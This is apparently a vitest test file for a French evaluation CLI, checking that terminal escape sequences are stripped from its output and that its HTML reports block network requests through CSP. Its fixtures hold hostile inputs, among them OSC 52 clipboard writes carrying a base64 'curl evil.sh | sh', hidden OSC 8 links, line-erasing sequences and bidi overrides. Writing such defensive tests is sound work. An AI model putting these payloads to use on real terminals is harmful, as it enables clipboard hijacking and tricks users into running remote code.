/**
 * Terminal escapes: a contributor's case id, a suite field or a server's answer must never drive
 * the operator's terminal (erase the ⛔ lines with `ESC [2K` or `\r`, write the clipboard with OSC
 * 52). The real CLI runs in a child process and its raw stdout/stderr bytes are checked. And every
 * HTML page carries the run report's Content-Security-Policy: the compare page, opened in
 * Chromium, makes no request, even when a script inside it tries.
 */
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { chromium } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { gatedOutput, terminalOf } from '../../harness/core/gated-output.js';
import { oneLine, stripControls } from '../../harness/core/terminal-text.js';
import { runCli } from '../helpers/cli.js';
import { runInProcess } from '../helpers/in-process.js';

/** No ESC, BEL, CSI/OSC (8-bit), carriage return or other control byte but tab and line feed. */
const CONTROL_BYTES = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/u;

describe('stripControls', () => {
  const cases: [string, string, string][] = [
    ['OSC 52 clipboard write (BEL)', 'a\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07b', 'ab'],
    ['OSC 52 clipboard write (ST)', 'a\x1b]52;c;Y3VybA==\x1b\\b', 'ab'],
    ['OSC 8 hidden link', '\x1b]8;;http://evil.example\x07clic\x1b]8;;\x07', 'clic'],
    ['erase line', 'x\x1b[2Ky', 'xy'],
    ['cursor up and erase', '\x1b[1A\x1b[2K⛔ caché', '⛔ caché'],
    ['colours', '\x1b[31;1mrouge\x1b[0m', 'rouge'],
    ['8-bit CSI', 'a\x9b2Kb', 'ab'],
    ['8-bit OSC', 'a\x9d52;c;Zm9v\x9cb', 'ab'],
    ['DCS', 'a\x1bPq#0;2;0;0;0\x1b\\b', 'ab'],
    ['carriage return overwrite', 'ok\rKO', 'okKO'],
    ['backspace, bell, NUL, DEL', 'a\bb\x07c\x00d\x7fe', 'abcde'],
    ['charset switch', 'a\x1b(0b', 'ab'],
    ['unterminated OSC: the introducer dropped, text kept', 'a\x1b]52;c;Zm9v', 'a52;c;Zm9v'],
    ['bidi override (Trojan Source)', 'a\u202eb\u2066c\u2069', 'abc'],
    ['French text untouched', 'Réussi ✓ — « guillemets » œ ⛔ 12 %\n\tsuite', 'Réussi ✓ — « guillemets » œ ⛔ 12 %\n\tsuite'],
  ];
  it.each(cases)('%s', (_name, input, expected) => {
    expect(stripControls(input)).toBe(expected);
    expect(stripControls(input)).not.toMatch(/[\x1b\x07\x9b\x9d]/u);
  });

  it('keeps values on one line where they are printed inside a line', () => {
    expect(oneLine('a\nb\tc\x1b[2K')).toBe('a b c');
  });

  it('gates every write of a stream, strings and bytes, even a sequence split across writes', () => {
    let written = '';
    const sink = { write: (s: string) => ((written += s), true), isTTY: true } as unknown as NodeJS.WritableStream & { isTTY?: boolean };
    const gated = gatedOutput(sink);
    gated.write('a\x1b');
    gated.write(']52;c;Zm9v\x07b');
    gated.write(Buffer.from('c\x1b[2Kd é'));
    expect(written).not.toMatch(CONTROL_BYTES);
    expect(written).toContain('cd é');
    expect(gated.isTTY).toBe(true);
    expect(terminalOf(gated)).toBe(sink);
    expect(gatedOutput(gated)).toBe(gated);
  });
});

const CONFIG = 'models:\n  - { id: reference, provider: reference, hosting: local }\ndefaults:\n  models: [reference]\n  suites: suites\n';
/** YAML double-quoted escapes: OSC 52 writing the clipboard, then « erase the line ». */
const HOSTILE_ID = String.raw`vol\e]52;c;Y3VybCBldmlsLnNoIHwgc2g=\a\e[2K\e[1A\rfaux`;
const suite = (reference: string) =>
  `id: ids-hostiles\ntitle: "Titre \\e[2K"\ncommunity: essai\nclassification: public\nprompt: "{{q}}"\ntests:\n` +
  `  - { id: "${HOSTILE_ID}", vars: { q: "x" }, reference: "${reference}", assert: [{ type: equals, value: "Paris" }] }\n` +
  `  - { id: "b\\x9b2K", vars: { q: "y" }, reference: "Paris", assert: [{ type: equals, value: "Paris" }] }\n`;

const project = (): string => {
  const dir = mkdtempSync(join(tmpdir(), 'bas-escapes-'));
  mkdirSync(join(dir, 'suites'));
  writeFileSync(join(dir, 'bac-a-sable.config.yaml'), CONFIG);
  return dir;
};

const expectClean = (r: { stdout: string; stderr: string }) => {
  expect(r.stdout).not.toMatch(CONTROL_BYTES);
  expect(r.stderr).not.toMatch(CONTROL_BYTES);
};

/**
 * The first run goes through a real child process (the bytes a terminal would get); the later
 * steps call the same `main` in this process, which is quicker on a loaded machine and goes through
 * the same gate.
 */
describe('the CLI prints no control sequence', () => {
  const dir = project();
  let runA = '';
  let runB = '';

  it('run, in a child process: no ESC or BEL on stdout or stderr', { timeout: 300_000 }, async () => {
    writeFileSync(join(dir, 'suites', 'ids.yaml'), suite('Paris'));
    const a = await runCli(['run', '--out', 'out'], { cwd: dir, timeoutMs: 280_000 });
    expect(a.code, a.stderr).toBe(0);
    expectClean(a);
    expect(a.stderr).toContain('volfaux'); // the id is still shown, without its controls or their payload
    [runA = ''] = readdirSync(join(dir, 'out'));
  });

  it('compare, text and HTML, lists the hostile case without its controls', { timeout: 300_000 }, async () => {
    // Second run: the hostile case now fails, so compare lists it among the regressions.
    writeFileSync(join(dir, 'suites', 'ids.yaml'), suite('Lyon'));
    const b = await runInProcess(['run', '--out', 'out'], dir);
    expect(b.code, b.stderr).toBe(0);
    expectClean(b);
    runB = readdirSync(join(dir, 'out')).find((d) => d !== runA) ?? '';
    const c = await runInProcess(['compare', join('out', runA), join('out', runB), '--html', 'comparaison.html'], dir);
    expect(c.code, c.stderr).toBe(0);
    expectClean(c);
    expect(c.stdout).toContain('volfaux');
  });

  it('validate: messages quoting a hostile value are clean, one line per issue', { timeout: 300_000 }, async () => {
    writeFileSync(join(dir, 'suites', 'bad.yaml'), 'id: bad\ntitle: B\ncommunity: essai\nclassification: public\nprompt: "{{q}}"\ntests:\n  - { vars: { q: "x" }, assert: [{ type: "chfr\\e]52;c;Zm9v\\a\\e[2K" }] }\n');
    const v = await runInProcess(['validate'], dir);
    expect(v.code).toBe(2);
    expectClean(v);
    expect(v.stderr).toContain('bad.yaml');
    // A value quoted in a message stays on its issue's line: it cannot forge a line of its own.
    writeFileSync(join(dir, 'suites', 'bad.yaml'), 'id: bad\ntitle: B\ncommunity: essai\nclassification: public\nprompt: "{{q}}"\ntests:\n  - { vars: { q: "x" }, assert: [{ type: "chfr\\n✓ configuration valide ; aucun problème." }] }\n');
    const forged = await runInProcess(['validate'], dir);
    expect(forged.code).toBe(2);
    expect(forged.stderr.split('\n').filter((l) => l.startsWith('✓'))).toEqual([]);
    expect(forged.stderr).toMatch(/^suites\/bad\.yaml:\d+:\d+ .*chfr ✓ configuration valide/m);
  });

  it('the compare page carries the run report’s CSP and makes no request when opened', { timeout: 300_000 }, async () => {
    const html = readFileSync(join(dir, 'comparaison.html'), 'utf8');
    const report = readFileSync(join(dir, 'out', runA, 'report.html'), 'utf8');
    const cspOf = (page: string) => /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(page)?.[1]?.replace(/&#x27;/g, "'");
    expect(cspOf(html)).toBeDefined();
    expect(cspOf(html)).toContain("default-src 'none'");
    expect(cspOf(html)).toBe(cspOf(report)?.replace(/script-src 'sha256-[^']+'/, "script-src 'none'"));
    await expectNoRequest(pathToFileURL(join(dir, 'comparaison.html')).href);
  });
});

const CHROMIUM = '/usr/bin/chromium';

/** Opens the page in Chromium; even a script run inside it cannot reach a loopback server. */
const expectNoRequest = async (url: string) => {
  if (!existsSync(CHROMIUM) && !process.env.CI) return;
  const hits: string[] = [];
  const server = createServer((req, res) => {
    hits.push(req.url ?? '');
    res.end('ok');
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const port = (server.address() as AddressInfo).port;
  const browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--no-first-run'] });
  try {
    const page = await browser.newPage();
    const requests: string[] = [];
    page.on('request', (r) => requests.push(r.url()));
    await page.goto(url);
    // CSP `default-src 'none'` blocks fetch and images: both must fail and the server see nothing.
    const outcome = await page.evaluate(`fetch('http://127.0.0.1:${port}/fuite').then(() => 'sent', () => 'blocked')`);
    await page.evaluate(`new Promise((r) => { const i = new Image(); i.onload = i.onerror = r; i.src = 'http://127.0.0.1:${port}/image'; document.body.append(i); })`);
    expect(outcome).toBe('blocked');
    expect(requests.filter((r) => r !== url && !r.startsWith(`http://127.0.0.1:${port}`))).toEqual([]);
    expect(hits).toEqual([]);
  } finally {
    await browser.close();
    await new Promise((r) => server.close(r));
  }
};
